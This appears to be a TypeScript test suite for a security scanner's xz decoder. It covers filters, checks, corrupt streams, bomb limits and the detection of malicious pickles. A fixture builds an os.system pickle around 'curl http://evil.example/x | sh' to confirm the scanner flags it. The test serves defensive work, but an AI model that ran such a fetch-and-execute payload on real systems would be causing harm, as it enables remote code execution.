// Our xz reader (stream/block/index, LZMA2, delta and BCJ filters, every check) against CPython's
// lzma (liblzma) as writer and oracle, plus the xz CLI for what CPython cannot write (multi-block
// streams, block headers with sizes, ARM64 BCJ); then .xz files through the scanner.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as zlib from 'node:zlib';
import { decompressRange } from '../../../server/src/core/formats/compression/bounded';
import { decodeXz, xzSlices } from '../../../server/src/core/formats/compression/xzDecoder';
import { X86Bcj } from '../../../server/src/core/formats/compression/xz/bcj';
import { BufferByteSource } from '../../../server/src/core/io/byteSource';
import { xzOracle, type XzCaseSpec, type XzFilterId } from '../../fixtures/lzma/xzOracle';
import { asStateReset, blockChunks, buildXz, storedChunk } from '../../fixtures/lzma/xzWriter';
import { osSystemPickle } from '../../fixtures/zip/pickles';
import { byRule, one, scan } from './helpers';

const MB = 1024 * 1024;
const CMD = 'curl http://evil.example/x | sh';
const evil = Buffer.from(osSystemPickle(CMD));
const b64 = (b: Uint8Array): string => Buffer.from(b).toString('base64');
const soup = (size: number, seed: number) => ({ kind: 'bcj-soup' as const, size, seed });
const BCJ: XzFilterId[] = ['x86', 'powerpc', 'ia64', 'arm', 'armthumb', 'sparc'];

const ROUND_TRIPS: XzCaseSpec[] = [
  ...(['none', 'crc32', 'crc64', 'sha256'] as const).map((check) => ({ name: `check ${check}`, data: { kind: 'text' as const, size: 300_000, seed: 1 }, check })),
  { name: 'preset 0', data: { kind: 'far-repeats', size: 400_000, seed: 2 }, preset: 0 },
  { name: 'preset 6', data: { kind: 'pickle', n: 400 } },
  { name: 'preset 9e', data: { kind: 'far-repeats', size: 400_000, seed: 3 }, preset: 9 + 0x80000000 },
  { name: 'delta dist 1', data: { kind: 'pattern', size: 200_000, unit: 'abcdefgh' }, filters: [{ id: 'delta', dist: 1 }, { id: 'lzma2' }] },
  { name: 'delta dist 4', data: { kind: 'far-repeats', size: 200_000, seed: 4, block: 900 }, filters: [{ id: 'delta', dist: 4 }, { id: 'lzma2', preset: 0 }] },
  { name: 'delta dist 256 + CRC32', data: { kind: 'random', size: 50_000, seed: 5 }, filters: [{ id: 'delta', dist: 256 }, { id: 'lzma2' }], check: 'crc32' },
  ...BCJ.map((id) => ({ name: `${id} BCJ + LZMA2`, data: soup(300_000, 6), filters: [{ id }, { id: 'lzma2' as const }] })),
  ...BCJ.map((id) => ({ name: `${id} BCJ at offset 0x100030, delta, SHA-256`, data: soup(100_003, 7), filters: [{ id, start_offset: 0x100030 }, { id: 'delta' as const, dist: 3 }, { id: 'lzma2' as const }], check: 'sha256' as const })),
  { name: 'IA-64 BCJ, CRC32, a length that leaves nothing to flush', data: soup(2000, 7), filters: [{ id: 'ia64' }, { id: 'lzma2' }], check: 'crc32' },
  { name: 'x86 + x86 + delta + LZMA2 (four filters)', data: soup(60_000, 8), filters: [{ id: 'x86' }, { id: 'x86' }, { id: 'delta', dist: 2 }, { id: 'lzma2' }] },
  { name: '4 KiB dictionary', data: { kind: 'far-repeats', size: 300_000, seed: 9, block: 3000 }, filters: [{ id: 'lzma2', dict_size: 4096 }] },
  { name: 'lc=0 lp=4 pb=4', data: { kind: 'text', size: 100_000, seed: 10 }, filters: [{ id: 'lzma2', lc: 0, lp: 4, pb: 4 }] },
  { name: 'incompressible (uncompressed chunks)', data: { kind: 'random', size: 3 * MB, seed: 11 } },
  { name: 'empty', data: { kind: 'bytes', b64: '' } },
  { name: 'one byte', data: { kind: 'bytes', b64: b64(Buffer.from('B')) } },
];

const EXTRA: XzCaseSpec[] = [
  // Context-free literals (lc = lp = pb = 0) and 4 KiB lengths, so chunks of one stream can follow another's.
  ...[1, 2].map((seed) => ({ name: `plain ${seed}`, data: { kind: 'text' as const, size: 4096 * 40, seed }, filters: [{ id: 'lzma2' as const, lc: 0, lp: 0, pb: 0 }], check: 'none' as const })),
  { name: 'evil', data: { kind: 'bytes', b64: b64(evil) } },
  { name: 'evil x86', data: { kind: 'bytes', b64: b64(evil) }, filters: [{ id: 'x86' }, { id: 'lzma2' }] },
  { name: 'evil sha256', data: { kind: 'bytes', b64: b64(evil) }, check: 'sha256' },
  { name: 'evil delta', data: { kind: 'bytes', b64: b64(evil) }, filters: [{ id: 'delta', dist: 4 }, { id: 'lzma2' }] },
  { name: 'zeros 48 MB', data: { kind: 'zeros', size: 48 * MB }, preset: 0 },
];

const { cases } = xzOracle([...ROUND_TRIPS, ...EXTRA]);
const get = (name: string) => cases.find((c) => c.name === name)!;
const hasXz = (() => {
  try {
    execFileSync('xz', ['--version']);
    return true;
  } catch {
    return false;
  }
})();
const xzCli = (raw: Uint8Array, ...args: string[]): Buffer => execFileSync('xz', ['-c', ...args], { input: raw, maxBuffer: 1 << 30 });
const equal = (a: Uint8Array, b: Uint8Array): boolean => Buffer.from(a).equals(Buffer.from(b));
const isPrefix = (part: Uint8Array, whole: Uint8Array): boolean => part.length <= whole.length && equal(part, whole.subarray(0, part.length));

/** A stream with one block header byte changed and the header's CRC32 recomputed. */
function patchBlockHeader(stream: Uint8Array, at: number, value: number): Buffer {
  const out = Buffer.from(stream);
  const size = (out[12]! + 1) * 4;
  out[12 + at] = value;
  out.writeUInt32LE(zlib.crc32(out.subarray(12, 12 + size - 4)), 12 + size - 4);
  return out;
}

/** Runs xzSlices over `bytes` split where `cuts` say. */
function decodePieces(bytes: Uint8Array, cuts: number[], limit = 1 << 30) {
  const pieces = [...cuts, bytes.length].map((c, i) => bytes.subarray(i === 0 ? 0 : cuts[i - 1], c));
  const out: Uint8Array[] = [];
  const g = xzSlices(pieces[Symbol.iterator](), bytes.length, (c) => out.push(c) > 0, limit);
  for (;;) {
    const step = g.next();
    if (step.done) return { ...step.value, data: Buffer.concat(out) };
  }
}

describe('xz reader: byte-exact against CPython', () => {
  for (const c of cases.slice(0, ROUND_TRIPS.length)) {
    it(`${c.name}: ${c.raw.length} bytes from ${c.stream.length}`, () => {
      const r = decodeXz(c.stream, Number.MAX_SAFE_INTEGER);
      assert.deepEqual([r.status, r.detail, r.trailing, r.data.length], ['end', undefined, undefined, c.raw.length]);
      assert.ok(equal(r.data, c.raw), 'output differs from the original');
    });
  }

  it('the BCJ fixtures really hold branches the filters convert', () => {
    const raw = Buffer.from(get('x86 BCJ + LZMA2').raw);
    new X86Bcj().code(raw, 0);
    let changed = 0;
    for (let i = 0; i < raw.length; i++) if (raw[i] !== get('x86 BCJ + LZMA2').raw[i]) changed++;
    assert.ok(changed > 3000, `${changed} bytes changed`);
  });

  it('incompressible data is stored in uncompressed LZMA2 chunks (control byte 1)', () => {
    const s = get('incompressible (uncompressed chunks)').stream;
    assert.equal(s[12 + (s[12]! + 1) * 4], 0x01);
  });

  it('declared dictionaries far over 64 MiB (up to 4 GiB - 1) decode, allocating only what the output needs', () => {
    const c = get('check crc64');
    const before = process.memoryUsage().arrayBuffers;
    for (const code of [28, 36, 40]) {
      const patched = patchBlockHeader(c.stream, 4, code);
      const ours = decodeXz(patched, Number.MAX_SAFE_INTEGER);
      assert.deepEqual([ours.status, equal(ours.data, c.raw)], ['end', true], `dictionary code ${code}`);
      assert.ok(equal(xzOracle([], [patched]).decoded[0]!.data, c.raw), 'CPython reads it too');
    }
    assert.ok(process.memoryUsage().arrayBuffers - before < 256 * MB);
  });

  it('input split anywhere decodes the same', () => {
    for (const name of ['check sha256', 'x86 BCJ + LZMA2', 'incompressible (uncompressed chunks)', 'empty']) {
      const c = get(name);
      const cuts = [1, 7, 12, 13, 30, 1000, 5000, 65_536, 200_001].filter((x) => x < c.stream.length);
      const r = decodePieces(c.stream, cuts);
      assert.deepEqual([r.status, equal(r.data, c.raw)], ['end', true], name);
    }
  });

  it('stops at the output limit with exactly the limit, filters included', () => {
    for (const name of ['check crc64', 'x86 BCJ + LZMA2', 'ia64 BCJ at offset 0x100030, delta, SHA-256', 'incompressible (uncompressed chunks)']) {
      const c = get(name);
      for (const limit of [0, 1, 1000, 70_000, c.raw.length - 1]) {
        const r = decodeXz(c.stream, limit);
        assert.deepEqual([r.status, r.data.length], ['limit', limit], `${name} limit ${limit}`);
        assert.ok(equal(r.data, c.raw.subarray(0, limit)), `${name} limit ${limit}`);
      }
      assert.equal(decodeXz(c.stream, c.raw.length).status, 'end', name);
    }
  });
});

describe('xz reader: LZMA2 chunk sequences liblzma accepts but its encoder does not write', () => {
  const a = get('plain 1');
  const b = get('plain 2');
  const [ca, cb] = [blockChunks(a.stream), blockChunks(b.stream)];
  const hello = Buffer.from('hello, stored chunk');
  const both = Buffer.concat([a.raw, b.raw]);

  it('the pieces: CPython starts each block with a dictionary reset and new properties', () => {
    assert.deepEqual([ca[0]!.control & 0xe0, cb[0]!.control & 0xe0], [0xe0, 0xe0]);
  });

  it('dictionary resets, stored chunks and state resets in the middle of a block decode as liblzma decodes them', () => {
    const variants: [string, Buffer, Buffer][] = [
      ['dictionary reset mid-block', buildXz([...ca, ...cb], both), both],
      ['stored chunk with dictionary reset, then new properties', buildXz([...ca, storedChunk(hello, true), ...cb], Buffer.concat([a.raw, hello, b.raw])), Buffer.concat([a.raw, hello, b.raw])],
      ['state reset only (same properties)', buildXz([...ca, asStateReset(cb[0]!), ...cb.slice(1)], both), both],
      ['stored chunk without reset first, then a chunk that resets', buildXz([storedChunk(hello, true), storedChunk(hello, false), ...cb], Buffer.concat([hello, hello, b.raw])), Buffer.concat([hello, hello, b.raw])],
    ];
    const oracle = xzOracle([], variants.map((v) => v[1])).decoded;
    variants.forEach(([label, stream, expected], i) => {
      assert.ok(oracle[i]!.ok && oracle[i]!.data.equals(expected), `CPython: ${label}`);
      const r = decodeXz(stream, Number.MAX_SAFE_INTEGER);
      assert.deepEqual([r.status, r.detail, equal(r.data, expected)], ['end', undefined, true], label);
    });
  });

  it('sequences liblzma refuses are corrupt for us too', () => {
    const variants: [string, Buffer][] = [
      ['no dictionary reset first', buildXz([storedChunk(hello, false)], hello)],
      ['a state reset without properties after a dictionary reset', buildXz([...ca, storedChunk(hello, true), asStateReset(cb[0]!), ...cb.slice(1)], both)],
      ['an LZMA chunk with a compressed size one byte short', buildXz([{ control: ca[0]!.control, bytes: Uint8Array.from([...ca[0]!.bytes.subarray(0, 4), ca[0]!.bytes[4]! - 1, ...ca[0]!.bytes.subarray(5, -1)]) }, ...ca.slice(1)], a.raw)],
      ['control byte 3', buildXz([...ca, { control: 3, bytes: Uint8Array.of(3, 0, 0, 0) }], a.raw)],
    ];
    const oracle = xzOracle([], variants.map((v) => v[1])).decoded;
    variants.forEach(([label, stream], i) => {
      assert.equal(oracle[i]!.ok, false, `CPython: ${label}`);
      const r = decodeXz(stream, Number.MAX_SAFE_INTEGER);
      assert.equal(r.status, 'corrupt', `${label}: ${r.status} ${r.detail}`);
    });
  });
});

describe('xz reader: streams the xz tool writes', { skip: !hasXz && 'no xz CLI' }, () => {
  const raw = get('check crc64').raw;

  it('multi-block streams, with sizes in the block headers (-T2) and without', () => {
    for (const args of [['--block-size=50000'], ['-T2', '--block-size=40000'], ['-0', '--block-size=4096', '--check=sha256']]) {
      const s = xzCli(raw, ...args);
      const r = decodeXz(s, Number.MAX_SAFE_INTEGER);
      assert.deepEqual([r.status, equal(r.data, raw)], ['end', true], args.join(' '));
    }
    assert.equal(xzCli(raw, '-T2', '--block-size=40000')[13], 0xc0, 'block header flags: both sizes present');
  });

  it('ARM64 BCJ (written by xz 5.4+)', () => {
    const data = get('arm BCJ + LZMA2').raw;
    for (const args of [['--arm64', '--lzma2'], ['--arm64=start=4096', '--lzma2=preset=0']]) {
      const r = decodeXz(xzCli(data, ...args), Number.MAX_SAFE_INTEGER);
      assert.deepEqual([r.status, equal(r.data, data)], ['end', true], args.join(' '));
    }
  });

  it('concatenated streams with stream padding decode like xz -d; bytes that start no stream are trailing', () => {
    const a = get('check sha256');
    const b = get('x86 BCJ + LZMA2');
    const e = get('empty');
    const joined = Buffer.concat([a.stream, Buffer.alloc(8), b.stream, e.stream, Buffer.alloc(4), a.stream, Buffer.alloc(12)]);
    const expected = Buffer.concat([a.raw, b.raw, a.raw]);
    const r = decodeXz(joined, Number.MAX_SAFE_INTEGER);
    assert.deepEqual([r.status, r.trailing, equal(r.data, expected)], ['end', undefined, true]);
    assert.ok(execFileSync('xz', ['-dc'], { input: joined, maxBuffer: 1 << 30 }).equals(expected));
    const split = decodePieces(joined, [a.stream.length, a.stream.length + 3, a.stream.length + 8]);
    assert.ok(equal(split.data, expected));
    for (const [tail, trailing] of [[Buffer.from('junk junk'), 9], [Buffer.alloc(3), 3], [Buffer.concat([Buffer.alloc(2), b.stream]), b.stream.length + 2]] as const) {
      const j = decodeXz(Buffer.concat([a.stream, tail]), Number.MAX_SAFE_INTEGER);
      assert.deepEqual([j.status, j.trailing, equal(j.data, a.raw)], ['end', trailing, true], `tail of ${tail.length}`);
    }
  });
});

describe('xz reader: broken input agrees with CPython', () => {
  const c = get('check crc64');

  // Our range decoder reads ahead one byte, so the last symbol before a cut (at most one 273-byte match) may be held back.
  it('truncated streams: an error like CPython, and a prefix of the data about as long as CPython streamed', () => {
    const cuts = [0, 5, 11, 12, 13, 20, 24, 100, 40_000, c.stream.length >> 1, c.stream.length - 60, c.stream.length - 13, c.stream.length - 1];
    const oracle = xzOracle([], cuts.map((n) => c.stream.subarray(0, n))).decoded;
    cuts.forEach((n, i) => {
      const r = decodeXz(c.stream.subarray(0, n), Number.MAX_SAFE_INTEGER);
      assert.equal(oracle[i]!.ok, false);
      assert.equal(r.status, 'truncated', `cut at ${n}: ${r.detail}`);
      assert.ok(isPrefix(r.data, c.raw) && r.data.length >= oracle[i]!.data.length - 273, `cut at ${n}: ours ${r.data.length}, CPython ${oracle[i]!.data.length}`);
    });
    assert.equal(decodeXz(c.stream.subarray(0, c.stream.length - 13), MB * 16).data.length, c.raw.length, 'only index and footer missing: all content decoded');
  });

  it('a wrong check is corrupt, after the block\'s data was handed on (CPython fails too)', () => {
    for (const name of ['check crc32', 'check crc64', 'check sha256']) {
      const s = Buffer.from(get(name).stream);
      const footer = s.length - 12;
      const indexSize = (s.readUInt32LE(footer + 4) + 1) * 4;
      s[footer - indexSize - 1]! ^= 0x40; // last byte of the block's check
      const r = decodeXz(s, Number.MAX_SAFE_INTEGER);
      assert.equal(r.status, 'corrupt');
      assert.match(r.detail!, new RegExp(`^the ${name === 'check sha256' ? 'SHA-256' : name.slice(6).toUpperCase()} check of a block does not match its content`));
      assert.ok(equal(r.data, get(name).raw));
      assert.equal(xzOracle([], [s]).decoded[0]!.ok, false);
    }
  });

  it('headers, index and footer: each damage is an error for both', () => {
    const s = c.stream;
    const variants = [
      patchBlockHeader(s, 1, 0x04), // reserved block flag
      patchBlockHeader(s, 4, 41), // dictionary code out of range
      patchBlockHeader(s, 2, 0x03), // delta as the last filter
      Buffer.concat([s.subarray(0, 7), Buffer.from([0x11]), s.subarray(8)]), // stream flags: reserved bits
      Buffer.concat([s.subarray(0, s.length - 2), Buffer.from('ZY')]),
      Buffer.concat([s.subarray(0, s.length - 8), Buffer.from([9, 9]), s.subarray(s.length - 6)]), // backward size
      Buffer.concat([s.subarray(0, s.length - 20), Buffer.from([0xff]), s.subarray(s.length - 19)]), // index CRC/records
    ];
    const oracle = xzOracle([], variants).decoded;
    variants.forEach((v, i) => {
      const r = decodeXz(v, Number.MAX_SAFE_INTEGER);
      assert.equal(oracle[i]!.ok, false, `variant ${i}`);
      assert.equal(r.status, 'corrupt', `variant ${i}: ${r.status} ${r.detail}`);
    });
  });

  it('a filter the scanner does not decode (RISC-V BCJ, xz 5.6) is unsupported, not corrupt', () => {
    const s = patchBlockHeader(get('x86 BCJ + LZMA2').stream, 2, 0x0b);
    const r = decodeXz(s, MB);
    assert.deepEqual([r.status, r.unsupported, r.detail], ['corrupt', true, 'the block uses RISC-V BCJ, which the scanner does not decode']);
  });

  it('a bomb stops at the limit, the ratio and the budget', async () => {
    const bomb = get('zeros 48 MB').stream;
    assert.deepEqual([decodeXz(bomb, 3 * MB).status, decodeXz(bomb, 3 * MB).data.length], ['limit', 3 * MB]);
    const src = new BufferByteSource(bomb);
    const ratio = await decompressRange('xz', src, 0, bomb.length, { cap: Number.MAX_SAFE_INTEGER, maxRatio: 50, take: () => true });
    assert.equal(ratio.stop, 'ratio');
    assert.ok(ratio.data.length < 2 * MB, `${ratio.data.length}`);
    const budget = await decompressRange('xz', src, 0, bomb.length, { cap: Number.MAX_SAFE_INTEGER, maxRatio: 1e9, take: () => true, maxOutput: 5 * MB });
    assert.deepEqual([budget.stop, budget.data.length], ['budget', 5 * MB]);
  });
});

describe('.xz files through the scanner', () => {
  const critical = (r: Awaited<ReturnType<typeof scan>>) => byRule(r, 'MSL601').filter((f) => f.severity === 'critical' && f.evidence?.includes(CMD));

  it('os.system pickles behind BCJ-x86, SHA-256, delta and ARM64: critical MSL601, nothing unanalysed', async () => {
    const streams: [string, Uint8Array][] = [['x86', get('evil x86').stream], ['sha256', get('evil sha256').stream], ['delta', get('evil delta').stream]];
    if (hasXz) streams.push(['arm64', xzCli(evil, '--arm64', '--lzma2')]);
    for (const [label, s] of streams) {
      for (const name of ['model.pkl.xz', 'model.joblib']) {
        const r = await scan(s, name);
        assert.equal(critical(r).length, 1, `${label} ${name}: ${JSON.stringify(r.findings.map((f) => [f.ruleId, f.message]))}`);
        assert.deepEqual(r.findings.filter((f) => /^MSL7/.test(f.ruleId)), [], label);
      }
    }
  });

  it('a wrong check: the payload is still analysed and the mismatch is reported (MSL710)', async () => {
    const s = Buffer.from(get('evil sha256').stream);
    const indexSize = (s.readUInt32LE(s.length - 8) + 1) * 4;
    s[s.length - 12 - indexSize - 1]! ^= 1;
    const r = await scan(s, 'model.pkl.xz');
    assert.equal(critical(r).length, 1);
    assert.match(one(r, 'MSL710').message, /^The xz stream is corrupt or truncated after \d+ decompressed bytes \(the SHA-256 check of a block does not match its content/);
  });

  it('an unsupported filter is MSL715 with the reason', async () => {
    const r = await scan(patchBlockHeader(get('evil x86').stream, 2, 0x0b), 'model.pkl.xz');
    assert.match(one(r, 'MSL715').message, /^The xz stream cannot be decoded by the scanner: the block uses RISC-V BCJ, which the scanner does not decode\./);
  });
});
